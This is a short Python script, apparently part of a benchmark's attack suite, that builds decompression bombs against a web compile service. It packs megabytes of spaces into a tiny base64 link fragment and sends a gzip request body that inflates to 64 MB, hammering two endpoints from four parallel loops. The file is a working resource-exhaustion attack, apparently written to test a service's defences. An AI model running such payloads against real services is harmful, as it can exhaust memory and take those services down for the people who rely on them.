"""Links of few bytes that hold a program of megabytes, for who inflates them; bodies that say they are packed."""

from __future__ import annotations

import base64
import gzip
import zlib

from bench.attacks.client import GoesOn, exchange, main, post, side_by_side

AT_ONCE = 4


def bomb(megabytes: int) -> str:
    """A link's text that holds so many megabytes of a program."""
    deflater = zlib.compressobj(9, wbits=-15)
    parts = [deflater.compress(b'{"source":"')]
    parts += [deflater.compress(b" " * (1 << 20)) for _ in range(megabytes)]
    parts += [deflater.compress(b'"}'), deflater.flush()]
    return "1." + base64.urlsafe_b64encode(b"".join(parts)).decode().rstrip("=")


def attack(port: int, source: str, goes_on: GoesOn) -> None:
    fragment = bomb(10)
    packed = gzip.compress(b'{"source":"' + b" " * (64 << 20) + b'"}')
    head = "POST /api/compile HTTP/1.1\r\nHost: x\r\nContent-Type: application/json\r\nContent-Encoding: gzip\r\n"
    head += f"Content-Length: {len(packed)}\r\n\r\n"
    requests = [post("/api/links", {"fragment": fragment}), head.encode() + packed]

    def throw(number: int) -> None:
        while goes_on():
            exchange(port, source, requests[number % 2])
            number += 1

    side_by_side(AT_ONCE, throw)


if __name__ == "__main__":
    main(attack)
